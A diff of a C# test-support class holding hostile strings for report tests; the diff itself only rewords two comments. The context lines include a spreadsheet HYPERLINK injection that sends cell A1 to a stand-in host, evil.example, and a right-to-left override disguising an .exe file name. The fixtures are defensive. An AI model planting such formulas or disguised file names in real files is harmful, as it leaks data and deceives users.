@@ -1,6 +1,6 @@
 namespace CioCompass.Tests.Reports.Support;
 
-/// <summary>What people paste, by accident or not.</summary>
+/// <summary>Texts that people paste, by accident or not.</summary>
 public static class HostileText
 {
     public const string Formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")";
@@ -16,7 +16,7 @@ public static class HostileText
     /// <summary>Null, bell, escape, a C1 control, halves of characters, and non-characters.</summary>
     public const string Controls = "a\0b\ac\u001bd\u0085e\ud800f\udfffg\ufffeh\uffff";
 
-    /// <summary>What spreadsheets read as the letter A.</summary>
+    /// <summary>Escapes that spreadsheets read as the letter A.</summary>
     public const string Escaped = "_x0041_ _x005F_ _x";
 
     public const string Override = "\u202Egnp.exe\u202C";
